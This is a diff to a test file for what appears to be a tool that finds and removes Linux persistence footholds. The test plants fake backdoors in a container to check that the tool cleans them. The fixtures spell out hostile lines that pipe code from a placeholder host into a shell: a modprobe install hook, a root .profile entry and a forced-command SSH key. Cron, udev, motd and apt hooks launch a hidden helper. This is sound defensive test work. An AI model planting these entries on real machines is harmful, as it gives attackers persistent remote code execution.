@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import base64
 import os
 import re
+import struct
 import subprocess
 import sys
 from pathlib import Path
@@ -13,13 +15,15 @@ import yaml
 
 from scout.keys import keygen
 from tests.conftest import ROOT
-from tests.hunter.conftest import KEY, manifest
+from tests.hunter.conftest import manifest
 from tests.hunter.machine import Machine, infected
 
 pytestmark = [pytest.mark.nspawn, pytest.mark.slow]
 HELPER = "/var/tmp/.cache/helper.sh"
 WATCH = "/usr/local/sbin/.watchd"
 REPLANTED = {"/etc/cron.d/sync": f"*/5 * * * * root {HELPER}\n", "/etc/profile.d/zz.sh": f"({HELPER} >/dev/null 2>&1 &)\n"}
+BLOB = base64.b64encode(struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + bytes(range(32))).decode()
+"""a public key whose bytes count up, so that nobody has the other half"""
 GHOST = "/dev/shm/.x/kworker"
 UNIT = "[Service]\nExecStart={}\nRestart=always\nRestartSec=100ms\n[Install]\nWantedBy=multi-user.target\n"
 PLANTS = {
@@ -38,7 +42,7 @@ PLANTS = {
     "L022": ("/etc/modprobe.d/zz.conf", "install cramfs curl http://198.51.100.7/x | bash\n"),
     "L030": ("/etc/profile.d/zz.sh", REPLANTED["/etc/profile.d/zz.sh"]),
     "L031": ("/root/.profile", 'bash -c "$(curl -fsSL http://198.51.100.7/p)"\n'),
-    "L062": ("/root/.ssh/authorized_keys", f"{KEY}evil dbus@localhost\n"),
+    "L062": ("/root/.ssh/authorized_keys", f'command="curl -s http://198.51.100.7/k | sh" ssh-ed25519 {BLOB} dbus@localhost\n'),
     "L080": ("/etc/udev/rules.d/99-zz.rules", f'ACTION=="add", RUN+="{HELPER}"\n'),
     "L083": ("/etc/update-motd.d/99-zz", f"#!/bin/sh\n{HELPER}\n"),
     "L084": ("/etc/apt/apt.conf.d/99zz", f'APT::Update::Pre-Invoke {{"{HELPER}";}};\n'),
@@ -128,6 +132,8 @@ def test_twenty_footholds_and_two_watchdogs_are_removed_for_good_and_put_back(tm
         assert {GHOST, WATCH, HELPER, "/etc/passwd"} <= named
         before = contents(machine.root)
 
+        done = machine.hunter("check", plan, "--seal")  # SCOUT takes no copy of shadow, so the case cannot say what is in it
+        assert done.returncode == 0, done.stdout + done.stderr
         done = machine.hunter("apply", plan, "--yes", "--i-know", "/root/.ssh/authorized_keys")
         assert done.returncode == 0, done.stdout + done.stderr
         assert f"Done: {len(actions)} of {len(actions)}, verified." in done.stdout
